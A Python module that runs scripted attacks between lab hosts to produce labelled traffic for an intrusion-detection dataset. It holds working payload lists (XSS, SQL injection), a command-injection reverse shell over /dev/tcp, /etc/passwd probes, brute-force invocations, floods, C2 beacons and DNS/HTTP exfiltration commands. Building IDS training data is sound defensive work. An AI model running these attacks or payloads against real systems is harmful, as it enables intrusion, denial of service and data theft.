"""Attacks run with Debian's tools from lab hosts against lab hosts, bounded in count and time.

Each :class:`Attack` runs one tool (or one scripted behaviour) from one attacker host and
records an :class:`Event` in the scenario log: who attacked whom, with what, which
protocols/ports, and the time window. :mod:`.label` joins those events to flows.

Family names come from the app's vocabulary (``ids_desktop.core.schema.FAMILIES``):

========================= ==============================================================
tool / behaviour          family
========================= ==============================================================
nmap (all scan types)     ``scan``
dig/host zone transfer    ``scan`` (DNS reconnaissance: AXFR of the internal zones)
hping3 floods, slowhttptest from one host            ``dos``
hping3 floods from several hosts at once             ``ddos``
hydra, medusa             ``brute_force``
sqlmap, XSS probes, manual SQL injection with curl   ``web_attack``
command injection + reverse shell                    ``exploit``
Heartbleed PoC against a *simulated* target          ``exploit`` (``heartbleed.py``)
iodine DNS tunnel         ``backdoor`` (a covert remote-access channel)
C2 beacon with jitter (HTTP, HTTPS), POST check-ins  ``botnet``
exfiltration HTTP / DNS   ``infiltration`` (data theft from an inside host; the vocabulary
                          has no "exfiltration", and CIC-IDS's "Infiltration" is the
                          compromised-insider stage this belongs to)
========================= ==============================================================
"""

from __future__ import annotations

import base64
import json
import random
import string
import subprocess
import threading
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path
from urllib.parse import quote_plus

from .netns import Host, Lab, LabError, check_target
from .servers import C2_TLS_NAMES

SCRIPTS = Path(__file__).resolve().parent

TCP, UDP, ICMP = 6, 17, 1
#: Source ports that attack traffic from a *benign* (compromised) host uses; the lab sets
#: every host's ephemeral range below this, so the 5-tuple tells the two apart.
ATTACK_SPORTS = (50000, 59999)
EPHEMERAL = "20000 44999"
MAX_PPS = 5000
MAX_COUNT = 20000


@dataclass
class Rule:
    """Flows between an ``a`` address and a ``b`` address (``None``: any lab host)."""

    a: list[str]
    b: list[str] | None = None
    proto: list[int] | None = None
    b_ports: list[int] | None = None       # service ports on the victim side
    a_ports: tuple[int, int] | None = None  # source-port range on the attacker side


@dataclass
class Event:
    id: str
    family: str
    tool: str
    label: str
    mix: str
    attacker: str
    targets: list[str]
    rules: list[Rule]
    start: float = 0.0
    end: float = 0.0
    cmd: str = ""
    rc: int | None = None
    note: str = ""

    def to_json(self) -> str:
        return json.dumps(asdict(self))


@dataclass
class Ctx:
    lab: Lab
    work: Path
    mix: str
    log_path: Path
    rng: random.Random
    servers: dict[str, Host]
    events: list[Event] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    stop: threading.Event = field(default_factory=threading.Event)
    seq: int = 0

    def record(self, ev: Event) -> None:
        with self.lock:
            self.events.append(ev)
            with self.log_path.open("a") as f:
                f.write(ev.to_json() + "\n")


class Attack:
    family = "attack"
    tool = "tool"

    def __init__(self, name: str, attacker: Host, targets: list[Host], *, hidden: bool = False,
                 **params):
        self.name = name
        self.attacker = attacker
        self.targets = targets
        self.hidden = hidden  # run from a benign client: restrict to ATTACK_SPORTS
        self.params = params
        for t in targets:
            check_target(t.ip)
        check_target(attacker.ip)

    # subclasses: rules() and execute(ctx) -> (cmd text, rc)
    def rules(self) -> list[Rule]:
        return [Rule([self.attacker.ip], [t.ip for t in self.targets],
                     a_ports=ATTACK_SPORTS if self.hidden else None)]

    def execute(self, ctx: Ctx) -> tuple[str, int]:
        raise NotImplementedError

    def run(self, ctx: Ctx) -> Event:
        with ctx.lock:
            ctx.seq += 1
            seq = ctx.seq
        ev = Event(f"{ctx.mix}:{self.name}#{seq}", self.family, self.tool, self.name, ctx.mix,
                   self.attacker.ip, [t.ip for t in self.targets], self.rules())
        ev.start = time.time()
        try:
            ev.cmd, ev.rc = self.execute(ctx)
        except LabError as exc:
            ev.note = f"error: {exc}"
        ev.end = time.time()
        ctx.record(ev)
        return ev

    def sh(self, ctx: Ctx, cmd: list[str], limit: float, **kw) -> int:
        return ctx.lab.run(self.attacker, cmd, limit, **kw).returncode

    def local_port(self) -> list[str]:
        """curl's source-port option when run from a benign user's host (hidden)."""
        return ["--local-port", f"{ATTACK_SPORTS[0]}-{ATTACK_SPORTS[1]}"] if self.hidden else []


# -- scans ---------------------------------------------------------------------------------
class Nmap(Attack):
    family, tool = "scan", "nmap"
    FLAGS = {"syn": ["-sS"], "connect": ["-sT"], "udp": ["-sU"], "version": ["-sS", "-sV"],
             "os": ["-sS", "-O"], "xmas": ["-sX"], "fin": ["-sF"], "null": ["-sN"],
             "ack": ["-sA"],
             # ICMP echo host discovery (a ping sweep); --send-ip: on a local subnet nmap
             # would otherwise discover hosts by ARP, which no IP flow meter sees
             "ping": ["-sn", "-PE", "--send-ip"]}

    def rules(self):
        kind = self.params["kind"]
        proto = [UDP, ICMP] if kind == "udp" else [ICMP] if kind == "ping" else None
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=proto)]

    def execute(self, ctx):
        kind, ports = self.params["kind"], self.params.get("ports")
        rate = min(int(self.params.get("rate", 500)), MAX_PPS)
        probe = self.FLAGS[kind] if kind == "ping" else ["-Pn", *self.FLAGS[kind], "-p", ports]
        cmd = ["nmap", "-n", "--max-retries", "1", "--max-rate", str(rate),
               "--host-timeout", "100s", *probe, *[t.ip for t in self.targets]]
        if kind == "connect":
            cmd.insert(1, "--unprivileged")
        return " ".join(cmd), self.sh(ctx, cmd, self.params.get("limit", 110))


class ZoneTransfer(Attack):
    """DNS reconnaissance: SOA lookups (UDP), then zone transfers (AXFR over TCP) with
    ``dig axfr`` and ``host -l``, one TCP connection each, against the lab resolver's
    authoritative zones (``servers.zone_args``; any host may transfer them) and, failing,
    against ``lab.internal`` (not authoritative there: the transfer is refused)."""

    family, tool = "scan", "dig-axfr"
    ZONES = ["corp.lab.internal", "dmz.lab.internal"]

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP, UDP],
                     b_ports=[53])]

    def execute(self, ctx):
        rng = random.Random(ctx.rng.random())
        dns = check_target(self.targets[0].ip)
        zones = list(self.params.get("zones", self.ZONES))
        tries = rng.sample(zones, rng.randint(1, len(zones)))
        if rng.random() < 0.5:
            tries.append("lab.internal")
        rc, records, done = 0, 0, []
        for zone in tries[: self.params.get("max_zones", 4)]:
            if ctx.stop.is_set():
                break
            if rng.random() < 0.7:
                self.sh(ctx, ["dig", f"@{dns}", "+time=2", "+tries=1", zone, "SOA"], 6)
                time.sleep(rng.uniform(0.2, 2.0))
            tool = ["host", "-l", "-W", "5", zone, dns] if rng.random() < 0.3 else \
                ["dig", f"@{dns}", "+time=5", "+tries=1", zone, "AXFR"]
            r = ctx.lab.run(self.attacker, tool, 15, stdout=subprocess.PIPE)
            rc = r.returncode
            records += (r.stdout or b"").count(b"\tIN\t") + (r.stdout or b"").count(b" has ")
            done.append(f"{tool[0]} {zone}")
            time.sleep(rng.uniform(0.5, 4.0))
        return f"zone transfer @{dns}: {', '.join(done)} ({records} records)", rc


# -- floods ---------------------------------------------------------------------------------
class Hping(Attack):
    family, tool = "dos", "hping3"

    def rules(self):
        mode = self.params["mode"]
        proto = {"syn": [TCP], "udp": [UDP, ICMP], "icmp": [ICMP]}[mode]
        ports = None if mode == "icmp" else [self.params["port"]]
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=proto,
                     b_ports=ports)]

    def execute(self, ctx):
        mode = self.params["mode"]
        count = min(int(self.params["count"]), MAX_COUNT)
        interval = max(int(self.params.get("interval_us", 1000)), 1_000_000 // MAX_PPS)
        flag = {"syn": ["-S"], "udp": ["--udp"], "icmp": ["--icmp"]}[mode]
        port = [] if mode == "icmp" else ["-p", str(self.params["port"])]
        data = ["-d", str(self.params["data"])] if self.params.get("data") else []
        cmd = ["hping3", "-q", *flag, *port, *data, "-c", str(count), "-i", f"u{interval}",
               self.targets[0].ip]
        limit = count * interval / 1e6 + 15
        return " ".join(cmd), self.sh(ctx, cmd, limit)


class SlowHttp(Attack):
    family, tool = "dos", "slowhttptest"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=[self.params["port"]])]

    def execute(self, ctx):
        t, port = self.targets[0].ip, self.params["port"]
        path = self.params.get("path", "/")
        url = f"http://{t}:{port}{path}"
        conns, dur = str(min(self.params.get("conns", 200), 500)), self.params.get("seconds", 40)
        mode = self.params["mode"]
        if mode == "slowloris":
            m = ["-H", "-i", "10", "-r", "40", "-t", "GET", "-x", "24", "-p", "3"]
        elif mode == "slowbody":
            m = ["-B", "-i", "10", "-r", "40", "-t", "POST", "-s", "8192", "-x", "10", "-p", "3"]
        else:  # slow read
            m = ["-X", "-r", "40", "-w", "512", "-y", "1024", "-n", "5", "-z", "32", "-k", "2",
                 "-p", "3"]
        cmd = ["slowhttptest", "-c", conns, *m, "-u", url, "-l", str(dur)]
        return " ".join(cmd), self.sh(ctx, cmd, dur + 20)


# -- brute force ------------------------------------------------------------------------------
COMMON_PW = ["123456", "password", "admin", "letmein", "qwerty", "welcome", "dragon", "monkey",
             "football", "iloveyou", "abc123", "111111", "sunshine", "master", "shadow",
             "trustno1", "princess", "secret", "root", "toor", "changeme", "passw0rd",
             "summer2024", "winter", "hello123", "login", "pass", "test", "guest", "default"]


def wordlist(rng: random.Random, n: int, real: str | None = None) -> list[str]:
    words = COMMON_PW + [f"{rng.choice(COMMON_PW)}{rng.randint(0, 9999)}" for _ in range(n)]
    out = rng.sample(words, min(n, len(words)))
    if real and rng.random() < 0.5:
        out.insert(rng.randrange(len(out) + 1), real)
    return out


class Hydra(Attack):
    family, tool = "brute_force", "hydra"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=self.params.get("ports"))]

    def execute(self, ctx):
        d = ctx.work / f"bf-{self.name}"
        d.mkdir(parents=True, exist_ok=True)
        users, pws = d / "users.txt", d / "pw.txt"
        users.write_text("\n".join(self.params["users"]) + "\n")
        pws.write_text("\n".join(self.params["passwords"]) + "\n")
        svc, t = self.params["service"], self.targets[0].ip
        tasks = str(min(self.params.get("tasks", 4), 16))
        if self.tool == "medusa":
            cmd = ["medusa", "-h", t, "-U", str(users), "-P", str(pws), "-M", svc, "-t", tasks,
                   "-T", "1", "-e", "n"]
        elif svc == "http-post-form":
            cmd = ["hydra", "-I", "-L", str(users), "-P", str(pws), "-t", tasks, "-s", "8080",
                   t, "http-post-form", "/login:username=^USER^&password=^PASS^:F=Login failed"]
        else:
            cmd = ["hydra", "-I", "-L", str(users), "-P", str(pws), "-t", tasks, "-W", "0",
                   f"{svc}://{t}"]
        return " ".join(cmd), self.sh(ctx, cmd, self.params.get("limit", 120), cwd=str(d))


class Medusa(Hydra):
    tool = "medusa"


# -- web attacks ------------------------------------------------------------------------------
class Sqlmap(Attack):
    family, tool = "web_attack", "sqlmap"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=[8080])]

    def execute(self, ctx):
        d = ctx.work / f"sqlmap-{self.name}"
        d.mkdir(parents=True, exist_ok=True)
        t = self.targets[0].ip
        cmd = ["sqlmap", "-u", f"http://{t}:8080/item?id=1", "--batch", "--flush-session",
               "--output-dir", str(d), "--level", str(self.params.get("level", 2)),
               "--risk", "1", "--threads", "2", "--timeout", "10", "--retries", "1",
               "--disable-coloring", *self.params.get("extra", [])]
        return " ".join(cmd), self.sh(ctx, cmd, self.params.get("limit", 150), cwd=str(d))


XSS = ["<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>",
       "<img src=x onerror=alert(1)>", "<svg/onload=alert('x')>", "javascript:alert(1)",
       "<body onload=alert(1)>", "'\"><iframe src=javascript:alert(1)>",
       "<scr<script>ipt>alert(1)</scr</script>ipt>", "%3Cscript%3Ealert(1)%3C/script%3E",
       "<details open ontoggle=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
       "';alert(String.fromCharCode(88,83,83))//", "<math><mtext><img src=x onerror=alert(1)>"]


class XssProbe(Attack):
    family, tool = "web_attack", "curl-xss"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=[8080], a_ports=ATTACK_SPORTS if self.hidden else None)]

    def execute(self, ctx):
        t = self.targets[0].ip
        n = min(self.params.get("count", 60), 300)
        rc = 0
        for i in range(n):
            if ctx.stop.is_set():
                break
            p = ctx.rng.choice(XSS) + ("" if i % 3 else str(i))
            port = ["--local-port", f"{ATTACK_SPORTS[0]}-{ATTACK_SPORTS[1]}"] if self.hidden else []
            rc = self.sh(ctx, ["curl", "-s", "-o", "/dev/null", *port, "-G", "--data-urlencode",
                               f"q={p}", f"http://{t}:8080/search"], 10)
            time.sleep(ctx.rng.uniform(0.05, 0.8))
        return f"curl xss x{n} http://{t}:8080/search", rc


#: Manual SQL injection, in the order a person tries them (MySQL-flavoured ones fail with a
#: database error against the lab's SQLite: that too is what a manual attempt looks like).
SQLI_STEPS = [
    ["1'", "1\"", "1' -- ", "'"],
    ["1' and 1=1 -- ", "1' and '1'='1", "1' or '1'='1", "1' or 1=1 -- ", "' or ''='"],
    ["1' and 1=1 union select database(), user()#", "1' union select null, null -- ",
     "1' union select 1, sqlite_version() -- ", "1' order by 3 -- ", "1' order by 2 -- "],
    ["1' and 1=1 union select null, table_name from information_schema.tables#",
     "1' union select name, sql from sqlite_master -- ",
     "1' union select type, name from sqlite_master where type='table' -- "],
    ["1' and 1=1 union select user, password from users#",
     "1' union select name, password from users -- ",
     "1' union select id, name || ':' || password from users -- ",
     "-1' union select group_concat(name), group_concat(password) from users -- "],
]
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101 Firefox/45.0"


class ManualSqli(Attack):
    """SQL injection typed by hand (the CIC-IDS2017 "Web Attack - Sql Injection" shape):
    GETs of ``/vulnerabilities/sqli/?id=<payload>&Submit=Submit`` with a browser's headers,
    one request per TCP connection, a few seconds apart. Part of them come in runs of one
    ``curl --rate`` call that keeps each connection open like a browser, until the app closes
    it after its 5 s keep-alive timeout; the others are single curls that hang up at once."""

    family, tool = "web_attack", "curl-sqli"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=[8080], a_ports=ATTACK_SPORTS if self.hidden else None)]

    def execute(self, ctx):
        rng = random.Random(ctx.rng.random())
        t = check_target(self.targets[0].ip)
        n = min(self.params.get("count", 10), 40)
        payloads = [rng.choice(step) for step in SQLI_STEPS]
        while len(payloads) < n:  # retries and variations of the later steps
            payloads.append(rng.choice(rng.choice(SQLI_STEPS[1:])))
        payloads = payloads[:n]
        base = f"http://{t}:8080/vulnerabilities/sqli/"
        sid = "".join(rng.choices(string.ascii_lowercase + string.digits, k=26))
        hdr = ["-A", FIREFOX, "-H", "Accept: text/html,application/xhtml+xml,application/xml;"
               "q=0.9,*/*;q=0.8", "-H", "Accept-Language: en-US,en;q=0.5", "-H",
               f"Referer: {base}", "-H", f"Cookie: security=low; PHPSESSID={sid}",
               "-H", "Connection: keep-alive", "--compressed"]
        end = time.time() + self.params.get("seconds", 30 + 12 * n)
        rc, i = 0, 0
        while i < len(payloads) and not ctx.stop.is_set() and time.time() < end:
            k = 1 if rng.random() < 0.4 else rng.randint(2, 4)
            batch = payloads[i:i + k]
            i += len(batch)
            outs = sum((["-o", "/dev/null", f"{base}?id={quote_plus(p)}&Submit=Submit"]
                        for p in batch), [])
            if len(batch) > 1:  # > 5 s apart: the app closes each idle connection first
                per_min = rng.choice([6, 7, 8, 10])
                rc = self.sh(ctx, ["curl", "-s", "-m", "20", *self.local_port(), *hdr,
                                   "--rate", f"{per_min}/m", *outs],
                             len(batch) * 60 / per_min + 20)
            else:
                rc = self.sh(ctx, ["curl", "-s", "-m", "10", *self.local_port(), *hdr, *outs], 15)
            time.sleep(rng.uniform(1.0, 8.0))
        return f"curl GET {base}?id=<SQL injection> x{len(payloads)}", rc


class CmdInjection(Attack):
    """Command injection in the lab app, then a reverse shell back to the attacker."""

    family, tool = "exploit", "cmd-injection"

    def rules(self):
        rules = [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP])]
        if self.params.get("dns"):  # the victim's DNS lookups caused by the injected commands
            rules.append(Rule([t.ip for t in self.targets], [self.params["dns"].ip],
                              proto=[UDP], b_ports=[53]))
        return rules

    def execute(self, ctx):
        t, me = self.targets[0].ip, check_target(self.attacker.ip)
        port = 4444 + ctx.rng.randrange(100)
        cmds = "id\nuname -a\nls -la /tmp\ncat /etc/hostname\nps ax | head -20\nexit\n"
        listener = ctx.lab.spawn(self.attacker, [
            "sh", "-c", f"(sleep 3; printf '{cmds}'; sleep 3) | nc -l -q 2 {me} {port}"], 30)
        time.sleep(0.5)
        probes = ["127.0.0.1;id", "x|uname -a", "localhost;cat /etc/passwd"]
        for p in probes:
            self.sh(ctx, ["curl", "-s", "-o", "/dev/null", "-G", "--data-urlencode", f"host={p}",
                          f"http://{t}:8080/lookup"], 15)
            time.sleep(ctx.rng.uniform(0.3, 1.5))
        payload = f"x; bash -c 'bash -i >& /dev/tcp/{me}/{port} 0>&1'"
        rc = self.sh(ctx, ["curl", "-s", "-o", "/dev/null", "-m", "25", "-G", "--data-urlencode",
                           f"host={payload}", f"http://{t}:8080/lookup"], 30)
        ctx.lab.stop(listener, wait=10)
        return f"curl /lookup?host=<reverse shell to {me}:{port}>", rc


class Heartbleed(Attack):
    """Heartbleed (CVE-2014-0160) in the style of the public PoCs, against the lab's
    **simulated** vulnerable TLS endpoint (``heartbleed.py serve`` on the target's port 443;
    Debian's OpenSSL has no heartbeat, so no real vulnerable server exists in the lab).
    Each connection: ClientHello, then either ``leak`` (1-4 heartbeat requests claiming
    ``payload_length`` 0x4000 or 0xffff; ~16-64 kB of junk "memory" comes back for each) or
    ``oversized`` (one 16 kB heartbeat record with no padding, which the server drops; the
    client hangs up after 5-8 s, the shape of the Zeek ``heartbleed`` trace)."""

    family, tool = "exploit", "heartbleed-sim"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=[self.params.get("port", 443)])]

    def execute(self, ctx):
        rng = random.Random(ctx.rng.random())
        t, port = check_target(self.targets[0].ip), self.params.get("port", 443)
        conns = min(self.params.get("conns", 3), 10)
        rc, modes = 0, []
        fixed = list(self.params.get("modes", []))  # e.g. ["leak", "oversized"]; else random
        for i in range(conns):
            if ctx.stop.is_set():
                break
            mode = fixed[i % len(fixed)] if fixed else rng.choices(["leak", "oversized"],
                                                                   [0.6, 0.4])[0]
            cmd = ["/usr/bin/python3", str(SCRIPTS / "heartbleed.py"), "probe", "--host", t,
                   "--port", str(port), "--mode", mode, "--beats", str(rng.randint(1, 4)),
                   "--length", rng.choice(["0x4000", "0x4000", "0xffff"]),
                   "--pause", f"{rng.uniform(0.2, 2.0):.1f}",
                   "--hold", f"{rng.uniform(5.0, 8.0):.1f}", "--tls", rng.choice(["1.1", "1.2"]),
                   "--seed", str(rng.randrange(1 << 30))]
            rc = self.sh(ctx, cmd, 40)
            modes.append(mode)
            time.sleep(rng.uniform(1.0, 6.0))
        return f"heartbleed.py probe {t}:{port} ({', '.join(modes)}) [simulated target]", rc


# -- covert channels, C2, exfiltration --------------------------------------------------------
class Iodine(Attack):
    family, tool = "backdoor", "iodine"

    def rules(self):
        dns, tun = self.params["dns"], self.params["tun"]
        return [Rule([self.attacker.ip], [dns.ip], proto=[UDP], b_ports=[53]),
                Rule([tun.ip], None)]

    def execute(self, ctx):
        dns, tun = self.params["dns"], self.params["tun"]
        secs = self.params.get("seconds", 45)
        p = ctx.lab.spawn(self.attacker, ["iodine", "-f", "-r", "-P", self.params["password"],
                                          dns.ip, "t.lab.internal"], secs + 15,
                          log=ctx.work / f"iodine-{self.name}.log")
        up = False
        for _ in range(40):
            out = ctx.lab.nsrun(self.attacker.ns, ["ip", "-br", "addr"], check=False).stdout
            if "dns0" in out and "10.213.9." in out:
                up = True
                break
            time.sleep(0.5)
        rc = 1
        if up:
            srv = "10.213.9.1"
            check_target(srv)
            # The sink reads until the client's FIN (-d: no stdin, which would make it quit
            # early) and the client waits for the sink to close (-N), so the whole transfer
            # crosses the tunnel before it is torn down.
            sink = ctx.lab.spawn(tun, ["sh", "-c", f"nc -l -d {srv} 5555 > /dev/null"], secs)
            self.sh(ctx, ["ping", "-c", "10", "-i", "0.5", srv], 15)
            size = self.params.get("bytes", 60000)
            rc = self.sh(ctx, ["sh", "-c", f"head -c {size} /dev/urandom | nc -N {srv} 5555"],
                         max(10, secs - 12))
            ctx.lab.stop(sink, wait=3)
            time.sleep(ctx.rng.uniform(1, 4))
        ctx.lab.stop(p, wait=5)
        return f"iodine -r -P *** {dns.ip} t.lab.internal; ping+nc over the tunnel", \
            rc if up else 2


class Beacon(Attack):
    family, tool = "botnet", "c2-beacon"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=[8080], a_ports=ATTACK_SPORTS if self.hidden else None)]

    def execute(self, ctx):
        c2 = self.targets[0].ip
        period, jitter = self.params.get("period", 5.0), self.params.get("jitter", 0.3)
        n = min(self.params.get("count", 30), 2000)
        bot = ctx.rng.randrange(1 << 20)
        port = ["--local-port", f"{ATTACK_SPORTS[0]}-{ATTACK_SPORTS[1]}"] if self.hidden else []
        ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
        end = time.time() + self.params.get("seconds", n * period * (1 + jitter))
        for i in range(n):
            if ctx.stop.is_set() or time.time() > end:
                break
            self.sh(ctx, ["curl", "-s", "-o", "/dev/null", "-m", "5", *port, "-A", ua,
                          f"http://{c2}:8080/beacon?id={bot}&seq={i}"], 8)
            if ctx.rng.random() < 0.15:
                size = ctx.rng.randint(200, 4000)
                self.sh(ctx, ["sh", "-c", f"head -c {size} /dev/urandom | curl -s -o /dev/null "
                              f"-m 5 {' '.join(port)} -A '{ua}' --data-binary @- "
                              f"http://{c2}:8080/result?id={bot}"], 8)
            time.sleep(max(0.2, period * ctx.rng.uniform(1 - jitter, 1 + jitter)))
        return f"curl beacon x{n} every {period}s±{int(jitter * 100)}% to {c2}:8080", 0


class TlsBeacon(Attack):
    """C2 beacon over HTTPS: a new TLS connection (curl, HTTP/2 or HTTP/1.1) for every
    check-in, every 2-4 s, a bounded count; SNI and Host are a C2 domain name, pinned with
    ``--resolve`` (no DNS lookup) or, with ``lookup``, resolved through the lab DNS before
    every check-in as malware on a client does (the DNS flows match no rule: on a hidden
    beacon they stay benign, as in ``test-cc-capture-2.pcap``'s ground truth). The C2 host's
    nginx terminates TLS in front of the C2 server. Now and then a check-in POSTs a small
    result."""

    family, tool = "botnet", "c2-beacon-tls"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=[443], a_ports=ATTACK_SPORTS if self.hidden else None)]

    def execute(self, ctx):
        rng = random.Random(ctx.rng.random())
        c2 = check_target(self.targets[0].ip)
        lo, hi = self.params.get("interval", (2.0, 4.0))
        lo = max(0.5, lo)
        n = min(self.params.get("count", 25), 300)
        name = self.params.get("sni") or rng.choice(C2_TLS_NAMES)
        path = rng.choice(["/api/v1/check", "/updates/check.json", "/cdn/ping", "/"])
        http = rng.choice(["--http2", "--http2", "--http1.1"])
        bot = rng.randrange(1 << 24)
        ua = rng.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Go-http-client/1.1",
                         "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"])
        lookup = bool(self.params.get("lookup"))
        common = ["curl", "-s", "-k", "-o", "/dev/null", "-m", "6", http, *self.local_port(),
                  "-A", ua, *([] if lookup else ["--resolve", f"{name}:443:{c2}"])]
        end = time.time() + self.params.get("seconds", n * hi + 30)
        sent = 0
        for i in range(n):
            if ctx.stop.is_set() or time.time() > end:
                break
            if rng.random() < 0.1:
                size = rng.randint(100, 3000)
                self.sh(ctx, ["sh", "-c", f"head -c {size} /dev/urandom | "
                              + " ".join(f"'{c}'" for c in common)
                              + f" --data-binary @- 'https://{name}/result?id={bot:x}'"], 10)
            else:
                self.sh(ctx, [*common, f"https://{name}{path}?id={bot:x}&seq={i}"], 10)
            sent += 1
            time.sleep(rng.uniform(lo, hi))
        how = "(DNS lookup)" if lookup else f"--resolve {name}:443:{c2}"
        return f"curl -k {how} https://{name}{path} x{sent} every {lo:.0f}-{hi:.0f} s", 0


class PostCheckin(Attack):
    """Ransomware-style C2 check-ins (the CryptoWall shape): a few POSTs of opaque bodies
    (hex of random bytes in a form field, or raw binary) to ``/<random>.php?<k>=<random>``
    on the C2 server's port 8080, one connection each (``Connection: Close``), slowly paced;
    the C2 answers after a pause with a chunked reply, now and then a large one."""

    family, tool = "botnet", "c2-post-checkin"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=[8080], a_ports=ATTACK_SPORTS if self.hidden else None)]

    def execute(self, ctx):
        rng = random.Random(ctx.rng.random())
        c2 = check_target(self.targets[0].ip)
        n = min(self.params.get("count", 4), 20)
        lo, hi = self.params.get("gap", (5.0, 30.0))
        alnum = string.ascii_letters + string.digits
        script = "".join(rng.choices(alnum, k=6)) + ".php"
        domain = "".join(rng.choices(string.ascii_lowercase, k=rng.randint(8, 16))) + \
            rng.choice([".com", ".net", ".org", ".info"])
        ua = ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; WOW64; Trident/7.0; SLCC2; "
              ".NET CLR 2.0.50727; .NET CLR 3.5.30729; .NET CLR 3.0.30729; Media Center PC 6.0)")
        d = ctx.work / f"checkin-{self.name}-{rng.randrange(1 << 30):x}"
        d.mkdir(parents=True, exist_ok=True)
        end = time.time() + self.params.get("seconds", n * (hi + 20))
        rc, sent = 0, 0
        for i in range(n):
            if ctx.stop.is_set() or time.time() > end:
                break
            key = rng.choice(string.ascii_lowercase)
            query = "".join(rng.choices(string.ascii_lowercase + string.digits,
                                        k=rng.randint(10, 16)))
            body = d / f"{i}.bin"
            if rng.random() < 0.6:  # hex of "encrypted" bytes in a form field
                body.write_bytes(f"{rng.choice(string.ascii_lowercase)}=".encode()
                                 + rng.randbytes(rng.randint(50, 200)).hex().encode())
                ctype = "application/x-www-form-urlencoded"
            else:
                body.write_bytes(rng.randbytes(rng.randint(80, 1200)))
                ctype = "application/octet-stream"
            rc = self.sh(ctx, ["curl", "-s", "-o", "/dev/null", "-m", "20", *self.local_port(),
                               "-A", ua, "-H", "Accept: */*", "-H", f"Content-Type: {ctype}",
                               "-H", "Connection: Close", "-H", f"Host: {domain}",
                               "-H", "Cache-Control: no-cache", "-H", "Expect:",
                               "--data-binary", f"@{body}",
                               f"http://{c2}:8080/{script}?{key}={query}"], 25)
            sent += 1
            time.sleep(rng.uniform(lo, hi))
        return f"curl POST http://{c2}:8080/{script}?<k>=<random> x{sent} (Host {domain})", rc


class ExfilHttp(Attack):
    family, tool = "infiltration", "exfil-http"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[TCP],
                     b_ports=[8080], a_ports=ATTACK_SPORTS if self.hidden else None)]

    def execute(self, ctx):
        c2 = self.targets[0].ip
        n = min(self.params.get("chunks", 20), 500)
        port = f"--local-port {ATTACK_SPORTS[0]}-{ATTACK_SPORTS[1]}" if self.hidden else ""
        for i in range(n):
            if ctx.stop.is_set():
                break
            size = ctx.rng.randint(20_000, 400_000)
            self.sh(ctx, ["sh", "-c", f"head -c {size} /dev/urandom | curl -s -o /dev/null -m 20 "
                          f"{port} -H 'Content-Type: application/octet-stream' --data-binary @- "
                          f"http://{c2}:8080/upload?part={i}"], 25)
            time.sleep(ctx.rng.uniform(0.3, 3.0))
        return f"curl POST x{n} chunks to {c2}:8080/upload", 0


class ExfilDns(Attack):
    family, tool = "infiltration", "exfil-dns"

    def rules(self):
        return [Rule([self.attacker.ip], [t.ip for t in self.targets], proto=[UDP],
                     b_ports=[53], a_ports=ATTACK_SPORTS if self.hidden else None)]

    def execute(self, ctx):
        dns = self.targets[0].ip
        n = min(self.params.get("queries", 150), 3000)
        me = self.attacker.ip
        for i in range(n):
            if ctx.stop.is_set():
                break
            label = base64.b32encode(ctx.rng.randbytes(30)).decode().rstrip("=").lower()
            sport = ctx.rng.randint(*ATTACK_SPORTS)
            self.sh(ctx, ["dig", f"@{dns}", "-b", f"{me}#{sport}", "+time=1", "+tries=1",
                          f"{label}.{i}.x.lab.internal", "TXT"], 5)
            time.sleep(ctx.rng.uniform(0.05, 0.6))
        return f"dig TXT <base32 data>.N.x.lab.internal x{n} @{dns}", 0


def run_schedule(ctx: Ctx, schedule: list[tuple[float, Attack]],
                 t0: float) -> list[threading.Thread]:
    """Start each attack in its own thread at ``t0 + offset``; return the threads."""
    threads = []

    def later(offset: float, atk: Attack) -> None:
        while time.time() < t0 + offset:
            if ctx.stop.wait(0.2):
                return
        atk.run(ctx)

    for offset, atk in schedule:
        th = threading.Thread(target=later, args=(offset, atk), daemon=True)
        th.start()
        threads.append(th)
    return threads
